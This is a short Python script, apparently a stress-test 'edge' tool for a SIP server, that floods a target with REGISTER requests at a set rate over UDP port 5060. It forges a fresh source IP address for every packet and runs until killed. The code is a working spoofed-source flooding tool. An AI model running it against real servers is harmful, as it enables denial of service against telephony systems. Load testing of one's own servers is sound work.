"""Edge: a flood of log-ins with forged senders, none of whom comes twice; it goes on until it is killed.

python flooder.py SERVER PACKETS_A_SECOND
"""

from __future__ import annotations

import itertools
import sys
import time
from ipaddress import IPv4Address

from forger import Forger
from guesser import Here
from sipwords import Request

SENDERS = IPv4Address("10.0.0.0")
_BATCH = 0.01
_PORT = 5060
_MOST = 1 << 24


def main(server: str, rate: str) -> None:
    """Send as many as that, in equal batches."""
    template = bytes(Request("REGISTER", "nobody", server, "UDP", str(SENDERS), _PORT, "flood@0000000@"))
    size = int(int(rate) * _BATCH)
    begin = time.monotonic()
    with Forger(Here(), server) as forger:
        for n in itertools.count():
            if not n % size:
                time.sleep(max(begin + n / int(rate) - time.monotonic(), 0))
            message = template.replace(b"@0000000@", b"@%07d@" % n)
            forger.send(str(SENDERS + n % _MOST), _PORT, message, _PORT)


if __name__ == "__main__":
    main(*sys.argv[1:])
